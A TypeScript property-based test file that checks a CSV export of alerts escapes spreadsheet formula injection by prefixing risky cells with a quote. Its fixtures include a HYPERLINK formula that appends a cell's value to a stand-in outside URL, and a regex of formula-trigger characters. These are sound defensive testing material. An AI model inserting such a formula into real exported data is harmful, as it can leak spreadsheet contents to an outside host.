import fc from "fast-check";
import { expect, test } from "vitest";
import { anAlert } from "../../domain/alert.arbitrary.ts";
import { CSV_HEADER, csvLine } from "./alert-csv.ts";

/** Reads lines by RFC 4180 itself, character by character. */
function parse(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at];
    if (isQuoted && character === '"' && text[at + 1] === '"') cell += text[at++];
    else if (character === '"') isQuoted = !isQuoted;
    else if (!isQuoted && character === ",") {
      line.push(cell);
      cell = "";
    } else if (!isQuoted && text.startsWith("\r\n", at)) {
      lines.push([...line, cell]);
      line = [];
      cell = "";
      at++;
    } else cell += character;
  }
  expect([line, cell, isQuoted]).toEqual([[], "", false]);
  return lines;
}

const [names = []] = parse(CSV_HEADER);
const cellOf = (line: readonly string[], name: string) => line[names.indexOf(name)];

test("whatever an alert says comes back out of its line, behind a quote where it would be a formula", () => {
  const text = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\",;'a＝") }),
  );
  fc.assert(
    fc.property(text, text, fc.dictionary(text, text), (title, description, labels) => {
      const csv = CSV_HEADER + csvLine(anAlert({ id: 7, title, description, labels, url: null }));
      const [, line = [], ...rest] = parse(csv);
      expect(rest).toEqual([]);
      expect(line).toHaveLength(names.length);
      expect(cellOf(line, "id")).toBe("7");
      expect(cellOf(line, "url")).toBe("");
      for (const [name, said] of Object.entries({ title, description })) {
        expect([said, `'${said}`]).toContain(cellOf(line, name));
      }
      expect(JSON.parse(cellOf(line, "labels") ?? "")).toEqual({ ...labels });
      for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
    }),
  );
});

test("a formula is a text, and a text that is none stays as it is", () => {
  const titles = [
    '=HYPERLINK("http://x.test/?"&A1)',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "a=b",
    "'quoted'",
  ];
  const written = titles.map((title) =>
    cellOf(parse(csvLine(anAlert({ title })))[0] ?? [], "title"),
  );
  const isFormula = (title: string) => !/^[a']/u.test(title);
  expect(written).toEqual(titles.map((title) => (isFormula(title) ? `'${title}` : title)));
});
